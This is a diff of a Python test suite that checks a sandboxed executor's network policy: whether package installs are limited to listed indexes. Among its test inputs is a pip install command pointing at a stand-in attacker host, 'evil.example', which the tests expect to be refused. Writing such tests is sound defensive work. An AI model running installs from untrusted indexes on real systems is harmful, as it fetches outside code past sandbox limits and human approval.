@@ -227,7 +227,7 @@ async def test_the_network_is_turned_on_and_off_under_a_living_kernel(place: Pla
                 assert made.takes("conversation", Reach(), policy)
                 assert await said(made, place, attempts, policy) == words + "\n"
             code = "print(os.environ['PLAYHEAD_SANDBOX'], os.environ.get('PIP_RETRIES'))"
-            assert await said(made, place, code, LISTED) == "on None\n"
+            assert await said(made, place, code, LISTED) == "listed None\n"
             assert not made.takes("conversation", Reach(), replace(FOLDER, files="look"))
 
 
@@ -283,8 +283,15 @@ async def test_packages_come_from_a_listed_index_and_from_no_other(place: Place)
     get = "%pip install --trusted-host {0} -i http://{0}/simple tiny"
     with index.serving():
         async with place.executor(place.sandbox(outside=world)) as made:
-            refused = await run(made, place.request(get.format("evil.example"), LISTED))
-            assert [one.target for one in report_of(refused).refused] == ["evil.example:80"]
+            for policy, why in ((FOLDER, "has no network"), (LISTED, "not among the places")):
+                refused = await run(made, place.request(get.format("evil.example"), policy))
+                assert {one.target for one in report_of(refused).refused} == {"evil.example:80"}
+                assert "Retrying" not in text_of(refused)
+                error = error_of(refused)
+                assert error is not None
+                assert error.name == "InstallError"
+                assert why in error.message
+                assert "A person can allow evil.example" in error.message
             assert index.asked == []
             words = await said(made, place, get.format("api.example"))
             assert await said(made, place, "import tiny; print(tiny.one)") == "1\n", words
